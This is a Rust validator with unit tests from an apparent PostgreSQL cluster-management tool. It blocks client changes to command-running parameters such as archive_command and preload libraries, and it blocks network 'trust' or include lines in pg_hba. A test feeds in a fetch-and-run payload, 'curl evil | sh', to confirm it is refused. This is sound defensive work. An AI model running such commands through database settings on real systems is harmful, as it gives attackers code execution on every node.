//! What a client may write into the replicated `config` key: the one check that both
//! `pgquorumctl` (before sending) and the agent's admin service (on receipt, so no hand-written
//! client bypasses it) run on every `config` write from outside the cluster.
//!
//! Besides the rules of `bootstrap.dcs` (types, timings: [`DynamicConfig::from_json`]):
//! - settings that make PostgreSQL run a command or load a library on every node (the
//!   `archive_command` family, `*_preload_libraries`, the standby cluster's commands) cannot be
//!   changed through the keyspace: they are set in `bootstrap.dcs` before the cluster starts
//!   or in each node's own configuration file, both guarded by the nodes' file permissions;
//! - new `pg_hba` lines may not use `trust` over the network, nor include other files.
//!
//! Values already stored are accepted unchanged, so a cluster bootstrapped with an
//! `archive_command` can still have its `work_mem` edited.

use serde_json::Value;

use super::{DynamicConfig, RaftConfig};

/// PostgreSQL parameters that run a shell command or load code as the `postgres` user.
pub const COMMAND_PARAMETERS: &[&str] = &[
    "archive_command",
    "archive_cleanup_command",
    "restore_command",
    "recovery_end_command",
    "ssl_passphrase_command",
    "shared_preload_libraries",
    "local_preload_libraries",
    "session_preload_libraries",
    "dynamic_library_path",
];

/// Sections of the dynamic configuration holding commands (as above), by path.
const COMMAND_SECTIONS: &[&str] = &[
    "standby_cluster.restore_command",
    "standby_cluster.archive_cleanup_command",
    "postgresql.recovery_conf",
];

/// Validate `after`, a client's new dynamic configuration replacing `before` (`None`: none
/// stored yet). Returns the validated configuration and its warnings, or every problem.
pub fn check_config_write(
    before: Option<&Value>,
    after: &Value,
    raft: Option<&RaftConfig>,
) -> Result<(DynamicConfig, Vec<String>), Vec<String>> {
    let mut problems = guarded_changes(before, after);
    match DynamicConfig::from_json(after, raft) {
        Ok(done) if problems.is_empty() => Ok(done),
        Ok(_) => Err(problems),
        Err(more) => {
            problems.extend(more);
            Err(problems)
        }
    }
}

fn at<'a>(root: Option<&'a Value>, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(root?, |node, key| node.get(key))
}

/// `postgresql.parameters` with lower-cased names (PostgreSQL's names are case-insensitive).
fn parameters(root: Option<&Value>) -> Vec<(String, Value)> {
    at(root, "postgresql.parameters")
        .and_then(Value::as_object)
        .map(|m| {
            m.iter()
                .map(|(k, v)| (k.to_ascii_lowercase(), v.clone()))
                .collect()
        })
        .unwrap_or_default()
}

fn guarded_changes(before: Option<&Value>, after: &Value) -> Vec<String> {
    let mut problems = Vec::new();
    let (old, new) = (parameters(before), parameters(Some(after)));
    let value_of = |list: &[(String, Value)], name: &str| -> Vec<Value> {
        list.iter()
            .filter(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .collect()
    };
    for name in COMMAND_PARAMETERS {
        if value_of(&old, name) != value_of(&new, name) {
            problems.push(format!(
                "postgresql.parameters.{name}: runs a command or loads code as the postgres user on \
                 every node, so it cannot be changed through the cluster keyspace; set it in \
                 bootstrap.dcs before the cluster starts or in each node's configuration file"
            ));
        }
    }
    // Absent, null and empty are the same setting (the stored form may spell out defaults).
    let setting = |root: Option<&Value>, path: &str| {
        at(root, path)
            .filter(|v| {
                !(v.is_null() || v.as_object().is_some_and(|m| m.is_empty()) || v.as_str() == Some(""))
            })
            .cloned()
    };
    for path in COMMAND_SECTIONS {
        if setting(before, path) != setting(Some(after), path) {
            problems.push(format!(
                "{path}: runs a command as the postgres user, so it cannot be changed through the \
                 cluster keyspace; set it in bootstrap.dcs before the cluster starts"
            ));
        }
    }
    let lines = |root: Option<&Value>| -> Vec<String> {
        at(root, "postgresql.pg_hba")
            .and_then(Value::as_array)
            .map(|l| l.iter().filter_map(Value::as_str).map(normalise_hba).collect())
            .unwrap_or_default()
    };
    let old_lines = lines(before);
    for line in lines(Some(after)) {
        if old_lines.contains(&line) {
            continue;
        }
        if let Some(why) = hba_line_problem(&line) {
            problems.push(format!("postgresql.pg_hba: {line:?}: {why}"));
        }
    }
    problems
}

fn normalise_hba(line: &str) -> String {
    line.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Why a new `pg_hba` line is refused, if it is.
pub fn hba_line_problem(line: &str) -> Option<&'static str> {
    let words: Vec<String> = line
        .split_whitespace()
        .take_while(|w| !w.starts_with('#'))
        .map(str::to_ascii_lowercase)
        .collect();
    let kind = words.first()?;
    if kind.starts_with("include") {
        return Some("include lines make PostgreSQL read other files; refused from the keyspace");
    }
    // type database user [address [mask]] method [options]: after the first three words, a
    // `trust` method over anything but the local socket lets anyone in without a password.
    if kind != "local" && words.iter().skip(3).any(|w| w == "trust") {
        return Some(
            "trust over the network lets anyone who can reach PostgreSQL in without a password; \
             use scram-sha-256 or cert (trust is accepted for local socket lines only)",
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn command_parameters_and_trust_lines_are_refused_unless_unchanged() {
        let before = json!({"postgresql": {"parameters": {"archive_command": "cp %p /a/%f"}}});
        let ok = json!({"postgresql": {"parameters": {"archive_command": "cp %p /a/%f", "work_mem": "8MB"}}});
        assert!(check_config_write(Some(&before), &ok, None).is_ok());
        let changed = json!({"postgresql": {"parameters": {"ARCHIVE_COMMAND": "curl evil | sh"}}});
        let err = check_config_write(Some(&before), &changed, None).unwrap_err();
        assert!(err[0].contains("archive_command"), "{err:?}");
        let added = json!({"postgresql": {"parameters": {"archive_cleanup_command": "x"}}});
        assert!(check_config_write(None, &added, None).is_err());
        let standby = json!({"standby_cluster": {"host": "h", "restore_command": "x"}});
        assert!(check_config_write(None, &standby, None).is_err());
        let defaults = json!({"postgresql": {"recovery_conf": {}}, "standby_cluster": null});
        assert!(check_config_write(None, &defaults, None).is_ok());
        // What is accepted is accepted again in its stored form (found by tests/fuzz_inputs.rs:
        // an empty standby_cluster was stored as a section of nulls, then refused).
        let (stored, _) = check_config_write(None, &defaults, None).unwrap();
        let stored = stored.to_json();
        assert!(
            check_config_write(Some(&stored), &stored, None).is_ok(),
            "{stored}"
        );

        let trust = json!({"postgresql": {"pg_hba": ["host all all 0.0.0.0/0 trust"]}});
        let err = check_config_write(None, &trust, None).unwrap_err();
        assert!(err[0].contains("trust over the network"), "{err:?}");
        let local = json!({"postgresql": {"pg_hba": ["local all all trust", "host all all 10.0.0.0/8 scram-sha-256"]}});
        assert!(check_config_write(None, &local, None).is_ok());
        // A line already stored (bootstrap.dcs) stays acceptable.
        assert!(check_config_write(Some(&trust), &trust, None).is_ok());
        assert!(hba_line_problem("include_dir /etc").is_some());
        assert!(hba_line_problem("hostssl all all ::1/128 trust").is_some());
        assert!(hba_line_problem("host trust all 10.0.0.1/32 md5").is_none());
    }

    #[test]
    fn timings_are_checked_as_in_bootstrap_dcs() {
        let bad = json!({"ttl": 0.1});
        assert!(check_config_write(None, &bad, None).is_err());
        assert!(check_config_write(None, &json!({"ttl": "soon"}), None).is_err());
        // Found by tests/fuzz_inputs.rs: this overflowed (a panic) in the timing rules.
        assert!(check_config_write(None, &json!({"loop_wait": 9_223_372_036_854_775_u64}), None).is_err());
        assert!(check_config_write(None, &json!({"ttl": -9.0e15}), None).is_err());
    }
}
